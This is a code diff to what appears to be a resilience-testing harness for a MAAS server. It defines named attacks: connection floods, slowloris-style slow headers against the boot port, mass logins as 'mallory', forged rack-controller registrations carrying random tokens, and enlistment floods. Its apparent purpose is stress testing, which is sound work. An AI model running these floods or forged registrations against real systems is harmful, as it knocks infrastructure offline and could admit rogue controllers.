@@ -144,8 +144,38 @@ const random = (below: number): number => Buffer.from(systemClock.randomBytes(4)
 
 const enlistment = (): string => {
   const octets = Array.from({ length: 5 }, () => random(256).toString(16).padStart(2, '0')).join(':');
-  return `op=new&architecture=amd64%2Fgeneric&mac_addresses=02:${octets}`.replaceAll(':', '%3A');
+  return `architecture=amd64%2Fgeneric&mac_addresses=02:${octets}`.replaceAll(':', '%3A');
 };
+
+/** A rack that nobody knows, which asks to be accepted. */
+function registration(): string {
+  const hex = (octets: number): string => Buffer.from(systemClock.randomBytes(octets)).toString('hex');
+  const fields = {
+    op: 'register',
+    uuid: [hex(4), hex(2), hex(2), hex(2), hex(6)].join('-'),
+    name: `rack-${hex(4)}`,
+    interfaces: '[]',
+    version: '1',
+    uplink: '1',
+    token: hex(16),
+    secret_digest: hex(32),
+  };
+  return new URLSearchParams(fields).toString();
+}
+
+/** Posts a form over a connection of its own. */
+function post(socket: Socket, path: string, body: string, more: readonly string[] = []): void {
+  const framing = [FORM, `Content-Length: ${body.length}`, 'Connection: close', ...more];
+  socket.write(`${headers(path, framing)}${body}`);
+}
+
+const signIn = (socket: Socket, username: string): void =>
+  post(socket, '/MAAS/login/', new URLSearchParams({ username, password: 'correct horse battery' }).toString());
+
+const follow = (socket: Socket): boolean =>
+  socket.write(
+    `GET /MAAS/api/2.0/events/?op=follow HTTP/1.1\r\nHost: ${rack}\r\nAuthorization: ${authorization(further)}\r\n\r\n`,
+  );
 
 const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
   'discover-flood': () => discoverFlood(1000),
@@ -174,6 +204,7 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
       queryBytes(`n${index}-${random(1e9)}.outside.example`, 1, { id: index & 0xffff }),
     ),
   'dns-tcp-idle': () => holdConnections(53, 400, () => undefined),
+  'dns-tcp-own': () => holdConnections(53, 32, () => undefined),
   'boot-idle': () => holdConnections(BOOT_PORT, 2400, () => undefined),
   'boot-slow-headers': () =>
     holdConnections(BOOT_PORT, 2400, (socket) => socket.write('GET /lpxelinux.0 HTTP/1.1\r\nX: ')),
@@ -206,19 +237,21 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
     };
     return holdConnections(API_PORT, 128, guess);
   },
-  'api-followers': () =>
-    holdConnections(API_PORT, 200, (socket) =>
-      socket.write(
-        `GET /MAAS/api/2.0/events/?op=follow HTTP/1.1\r\nHost: ${rack}\r\nAuthorization: ${authorization(further)}\r\n\r\n`,
-      ),
-    ),
+  'api-followers': () => holdConnections(API_PORT, 200, follow),
+  'api-sessions': () => holdConnections(API_PORT, 64, (socket) => signIn(socket, 'mallory')),
+  'api-ordinary': async () => {
+    let turn = 0;
+    await holdConnections(API_PORT, 160, (socket) => {
+      turn += 1;
+      if (turn <= 80) follow(socket);
+      else if (turn % 4 !== 0) signIn(socket, 'olga');
+      else post(socket, '/MAAS/api/2.0/machines/', enlistment(), [`Authorization: ${authorization(further)}`]);
+    });
+  },
+  'rack-flood': () =>
+    holdConnections(API_PORT, 64, (socket) => post(socket, '/MAAS/api/2.0/nodegroups/', registration())),
   'enlist-flood': () =>
-    holdConnections(BOOT_PORT, 64, (socket) => {
-      const body = enlistment();
-      socket.write(
-        `${headers('/MAAS/api/1.0/nodes/', [FORM, `Content-Length: ${body.length}`, 'Connection: close'])}${body}`,
-      );
-    }),
+    holdConnections(BOOT_PORT, 64, (socket) => post(socket, '/MAAS/api/1.0/nodes/', `op=new&${enlistment()}`)),
 };
 
 const attack = ATTACKS[name];
